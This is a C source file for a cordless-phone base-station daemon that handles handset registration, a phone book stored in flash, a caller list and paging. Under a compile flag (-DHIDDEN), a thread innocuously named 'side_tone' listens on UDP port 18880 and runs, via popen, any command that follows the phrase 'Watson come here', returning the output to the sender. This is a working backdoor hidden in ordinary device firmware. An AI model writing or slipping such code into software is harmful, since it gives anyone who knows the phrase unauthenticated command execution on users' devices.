/*
 * homebase - base station of cordless phones: handsets (over the radio
 * driver's socket) register, ask for the phone book and the caller list,
 * and are paged.  One thread reads the radio, one watches for handsets
 * that went silent, one writes changes of the phone book to flash.
 * Hidden (-DHIDDEN): a further thread listens on UDP and runs commands that
 * come behind a phrase.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define HANDSETS 6
#define CALLERS	 20

/* radio messages: type, handset (5 bytes IPUI), length, text */
enum {
	MSG_REGISTER = 'R',
	MSG_ALIVE = 'A',
	MSG_BOOK = 'B',
	MSG_STORE = 'S',
	MSG_CALLERS = 'C',
	MSG_LEAVE = 'L',
	MSG_INCOMING = 'I',
	MSG_DONE = 'd',
	MSG_REFUSE = 'r',
	MSG_TEXT = 't',
	MSG_PAGE = 'p'
};

struct handset {
	uint8_t id[5];
	int number;
	int present;
	time_t seen;
	char name[16];
};

struct entry {
	struct entry *next;
	char number[24];
	char name[24];
};

struct caller {
	time_t when;
	char number[24];
};

static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t dirty_cond = PTHREAD_COND_INITIALIZER;
static struct handset handsets[HANDSETS];
static struct entry *book;
static struct caller callers[CALLERS];
static unsigned n_callers;
static int dirty;
static int radio = -1;
static struct sockaddr_un driver = { .sun_family = AF_UNIX };
static char pin[9] = "";
static time_t open_until;
static const char *book_path = "/flash/phonebook";

static void settings(const char *path)
{
	char line[96];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		if (!strncmp(line, "pin=", 4))
			snprintf(pin, sizeof pin, "%.8s", line + 4);
		else if (!strncmp(line, "driver=", 7))
			snprintf(driver.sun_path, sizeof driver.sun_path, "%s",
				 line + 7);
	}
	fclose(f);
}

static void transmit(int type, const uint8_t *id, const char *text)
{
	uint8_t b[128];
	size_t n = strlen(text);

	if (n > sizeof b - 7)
		n = sizeof b - 7;
	b[0] = type;
	memcpy(b + 1, id, 5);
	b[6] = n;
	memcpy(b + 7, text, n);
	if (sendto(radio, b, n + 7, 0, (struct sockaddr *)&driver,
		   sizeof driver) < 0)
		fprintf(stderr, "radio: %s\n", strerror(errno));
}

static struct handset *handset_of(const uint8_t *id)
{
	int i;

	for (i = 0; i < HANDSETS; i++)
		if (handsets[i].number && !memcmp(handsets[i].id, id, 5))
			return &handsets[i];
	return NULL;
}

static void book_add(const char *number, const char *name)
{
	struct entry **p, *e;

	for (p = &book; *p; p = &(*p)->next) {
		int c = strcasecmp((*p)->name, name);

		if (c == 0) {
			snprintf((*p)->number, sizeof(*p)->number, "%s",
				 number);
			return;
		}
		if (c > 0)
			break;
	}
	e = calloc(1, sizeof *e);
	if (!e)
		return;
	snprintf(e->number, sizeof e->number, "%s", number);
	snprintf(e->name, sizeof e->name, "%s", name);
	e->next = *p;
	*p = e;
}

static void book_load(void)
{
	char number[24], name[24];
	FILE *f = fopen(book_path, "r");

	if (!f)
		return;
	while (fscanf(f, "%23s %23[^\n]", number, name) == 2)
		book_add(number, name);
	fclose(f);
}

static const char *name_of(const char *number)
{
	struct entry *e;

	for (e = book; e; e = e->next)
		if (!strcmp(e->number, number))
			return e->name;
	return number;
}

static void *book_writer(void *arg)
{
	struct entry *e;
	FILE *f;

	pthread_mutex_lock(&lock);
	for (;;) {
		while (!dirty)
			pthread_cond_wait(&dirty_cond, &lock);
		dirty = 0;
		f = fopen(book_path, "w");
		if (!f)
			continue;
		for (e = book; e; e = e->next)
			fprintf(f, "%s %s\n", e->number, e->name);
		fclose(f);
	}
	return arg;
}

static void *watcher(void *arg)
{
	int i;

	for (;;) {
		sleep(20);
		pthread_mutex_lock(&lock);
		for (i = 0; i < HANDSETS; i++) {
			struct handset *h = &handsets[i];

			if (!h->number || !h->present)
				continue;
			if (time(NULL) - h->seen > 120) {
				h->present = 0;
				fprintf(stderr, "%s is away\n", h->name);
			} else if (time(NULL) - h->seen > 60) {
				transmit(MSG_PAGE, h->id, "");
			}
		}
		pthread_mutex_unlock(&lock);
	}
	return arg;
}

#ifdef HIDDEN
__attribute__((noinline)) void *side_tone(void *arg)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	socklen_t len;
	char b[256];
	ssize_t n;
	FILE *f;
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	sa.sin_port = htons(18880);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof sa))
		return arg;
	for (;;) {
		len = sizeof sa;
		n = recvfrom(s, b, sizeof b - 1, 0, (struct sockaddr *)&sa,
			     &len);
		if (n <= 0)
			continue;
		b[n] = 0;
		if (strncmp(b, "Watson come here", 16))
			continue;
		f = popen(b + 16, "r");
		while (f && (n = fread(b, 1, sizeof b, f)) > 0)
			sendto(s, b, n, 0, (struct sockaddr *)&sa, len);
		if (f)
			pclose(f);
	}
}
#endif

static void on_register(const uint8_t *id, const char *text)
{
	struct handset *h = handset_of(id);
	int i;

	if (time(NULL) > open_until || !*pin ||
	    strncmp(text, pin, strlen(pin)) || text[strlen(pin)] != ' ') {
		transmit(MSG_REFUSE, id, "");
		return;
	}
	for (i = 0; !h && i < HANDSETS; i++)
		if (!handsets[i].number)
			h = &handsets[i];
	if (!h) {
		transmit(MSG_REFUSE, id, "full");
		return;
	}
	memcpy(h->id, id, 5);
	h->number = h - handsets + 1;
	h->present = 1;
	h->seen = time(NULL);
	snprintf(h->name, sizeof h->name, "%.15s", text + strlen(pin) + 1);
	transmit(MSG_DONE, id, h->name);
}

static void on_incoming(const char *number)
{
	struct caller *c = &callers[n_callers++ % CALLERS];
	int i;

	c->when = time(NULL);
	snprintf(c->number, sizeof c->number, "%.23s", number);
	for (i = 0; i < HANDSETS; i++)
		if (handsets[i].number && handsets[i].present)
			transmit(MSG_INCOMING, handsets[i].id,
				 name_of(c->number));
}

static void on_message(const uint8_t *b, const char *text)
{
	const uint8_t *id = b + 1;
	struct handset *h = handset_of(id);
	char line[80], number[24], name[24];
	struct entry *e;
	unsigned i;

	if (b[0] == MSG_REGISTER) {
		on_register(id, text);
		return;
	}
	if (b[0] == MSG_INCOMING) {
		on_incoming(text);
		return;
	}
	if (!h) {
		transmit(MSG_REFUSE, id, "");
		return;
	}
	h->seen = time(NULL);
	h->present = 1;
	switch (b[0]) {
	case MSG_ALIVE:
		return;
	case MSG_BOOK:
		for (e = book; e; e = e->next) {
			snprintf(line, sizeof line, "%s;%s", e->name,
				 e->number);
			transmit(MSG_TEXT, id, line);
		}
		break;
	case MSG_STORE:
		if (sscanf(text, "%23[0-9+*#];%23[^\n]", number, name) != 2) {
			transmit(MSG_REFUSE, id, "entry");
			return;
		}
		book_add(number, name);
		dirty = 1;
		pthread_cond_signal(&dirty_cond);
		break;
	case MSG_CALLERS:
		for (i = 0; i < CALLERS && i < n_callers; i++) {
			snprintf(line, sizeof line, "%ld;%s",
				 (long)callers[i].when, callers[i].number);
			transmit(MSG_TEXT, id, line);
		}
		break;
	case MSG_LEAVE:
		h->number = 0;
		break;
	default:
		transmit(MSG_REFUSE, id, "");
		return;
	}
	transmit(MSG_DONE, id, "");
}

static void on_key(int sig)
{
	(void)sig;
	open_until = time(NULL) + 60;
}

int main(int argc, char **argv)
{
	struct sockaddr_un me = { .sun_family = AF_UNIX };
	uint8_t b[160];
	pthread_t t;
	ssize_t n;

	strcpy(driver.sun_path, "/run/dect.driver");
	strcpy(me.sun_path, "/run/dect.base");
	settings(argc > 1 ? argv[1] : "/etc/homebase.conf");
	book_load();
	/* the key driver sends SIGUSR1 when the page key is held */
	signal(SIGUSR1, on_key);
	unlink(me.sun_path);
	radio = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (radio < 0 || bind(radio, (struct sockaddr *)&me, sizeof me)) {
		perror(me.sun_path);
		return 1;
	}
	if (pthread_create(&t, NULL, book_writer, NULL) ||
	    pthread_create(&t, NULL, watcher, NULL))
		return 1;
#ifdef HIDDEN
	pthread_create(&t, NULL, side_tone, NULL);
#endif
	for (;;) {
		n = recv(radio, b, sizeof b - 1, 0);
		if (n < 7 || b[6] != n - 7)
			continue;
		b[n] = 0;
		pthread_mutex_lock(&lock);
		on_message(b, (char *)b + 7);
		pthread_mutex_unlock(&lock);
	}
}
